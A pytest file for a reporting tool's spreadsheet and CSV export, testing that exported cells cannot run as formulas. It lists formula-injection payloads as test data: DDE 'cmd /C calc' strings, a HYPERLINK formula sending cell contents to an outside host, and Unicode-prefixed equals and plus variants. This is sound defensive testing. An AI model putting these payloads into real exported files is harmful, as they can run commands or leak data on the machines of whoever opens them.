"""No text in a file is run by what opens it; each file is read back by another's code."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from python_calamine import CalamineWorkbook

from lib.spreadsheets import LONGEST_SHEET_NAME, neutralise, sheet_name
from reporting.exports import FORMATS, Document, Maker
from reporting.exports.document import Amount, Column, Line, Row
from reporting.exports.stream import Holds, RowColumn, row_writer
from reporting.tables import State

ATTACKS = (
    '=HYPERLINK("http://example.org?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\ufe66" + "1+1",  # small equals sign
    "\u207c1+1",  # raised equals sign
    "\u22121+1",  # minus of typesetters
    "%0A=1+1",
    "|calc",
)
MAKER = Maker("=Ilse", dt.datetime(2026, 11, 23, 12, 30, tzinfo=dt.UTC), "AAAA-BBBB")
NUMBERS = (-5, 0, 1204, Decimal("-0.5"))


def document() -> Document:
    """Every attack in every place where a text may stand, and numbers beside it."""
    columns = (Column("=Centrum"), Column("+Aantal", is_amount=True, decimals=1), Column("@Nota"))
    amounts = [Amount(number, "geteld", State.COUNTED) for number in NUMBERS]
    rows = [
        Row((attack, amounts[position % len(amounts)], attack), is_total=False)
        for position, attack in enumerate(ATTACKS)
    ]
    lines = tuple(Line(attack, attack) for attack in ATTACKS)
    return Document("=Titel", "", columns, tuple(rows), lines, "bestand", MAKER)


def is_harmless(text: str) -> bool:
    """By another rule than the one that makes it so: nothing but a letter, digit or quote first."""
    return not text or text[0] == "'" or text[0].isalnum()


def cells(body: bytes) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(body))
    sheets = [book.get_sheet_by_name(name) for name in book.sheet_names]
    return [list(row) for sheet in sheets for row in sheet.to_python()]


@pytest.mark.parametrize("code", ["xlsx", "ods"])
def test_a_spreadsheet_holds_no_text_that_runs(code: str) -> None:
    found = cells(FORMATS[code].write(document()))
    texts = [value for row in found for value in row if isinstance(value, str)]
    assert len(texts) > 4 * len(ATTACKS)
    assert [text for text in texts if not is_harmless(text)] == []


@pytest.mark.parametrize("code", ["xlsx", "ods"])
def test_numbers_stay_numbers(code: str) -> None:
    found = cells(FORMATS[code].write(document()))
    assert [row[1] for row in found[1:5]] == [float(number) for number in NUMBERS]


def test_csv_holds_no_text_that_runs_and_numbers_as_they_are() -> None:
    body = FORMATS["csv"].write(document()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    texts = [value for row in rows for value in (row[:1] + row[2:])]
    assert [text for text in texts if not is_harmless(text)] == []
    assert [row[1] for row in rows[1:5]] == ["-5", "0", "1204", "-0,5"]


@pytest.mark.parametrize("code", ["csv", "xlsx"])
def test_long_files_hold_no_text_that_runs(code: str) -> None:
    columns = [
        RowColumn("=Centrum"),
        RowColumn("-Getal", Holds.NUMBER),
        RowColumn("Dag", Holds.DATE),
    ]
    writer = row_writer(code, columns)
    day = dt.date(2024, 2, 29)
    body = writer.start()
    body += writer.rows([attack, -5, day] for attack in ATTACKS)
    body += writer.finish(Line(attack, attack) for attack in ATTACKS)
    if code == "xlsx":
        found = cells(body)
        assert found[1][1:3] == [-5.0, day]
    else:
        text = body.decode("utf-8-sig")
        found = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))  # type: ignore[arg-type]
        assert found[1][1:3] == ["-5", "29.02.2024"]
    texts = [v for row in found for v in (*row[:1], *row[2:]) if isinstance(v, str)]
    assert len(texts) > 2 * len(ATTACKS)
    assert [text for text in texts if not is_harmless(text)] == []


def test_rows_beyond_one_sheet_go_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    from reporting.exports import stream_xlsx

    monkeypatch.setattr(stream_xlsx, "MOST_ROWS", 5)
    writer = row_writer("xlsx", [RowColumn("Getal", Holds.NUMBER)])
    body = writer.start() + writer.rows([[n] for n in range(10)]) + writer.finish([])
    book = CalamineWorkbook.from_filelike(io.BytesIO(body))
    sheets = [book.get_sheet_by_name(name).to_python() for name in book.sheet_names[:-1]]
    assert [len(sheet) for sheet in sheets] == [5, 5, 3]
    assert [row[0] for sheet in sheets for row in sheet[1:]] == [float(n) for n in range(10)]


@pytest.mark.parametrize("text", [*ATTACKS, "'", "", "a/b:c*d", "x" * 40, "[Blad]", "'naam'"])
def test_sheets_have_names_that_every_program_takes(text: str) -> None:
    name = sheet_name(text)
    assert 0 < len(name) <= LONGEST_SHEET_NAME
    assert not set("[]:*?/\\") & set(name)
    assert name[0] not in "'=+-@|%"
    assert name[-1] != "'"


def test_sheet_names_do_not_clash() -> None:
    assert sheet_name("Deel A", {"deel a"}) == "Deel A 2"
    assert sheet_name("x" * 40, {"x" * 31}) == "x" * 29 + " 2"


def test_a_telephone_number_is_text_and_stays_readable() -> None:
    assert neutralise("+32 470 00 00 00") == "'+32 470 00 00 00"
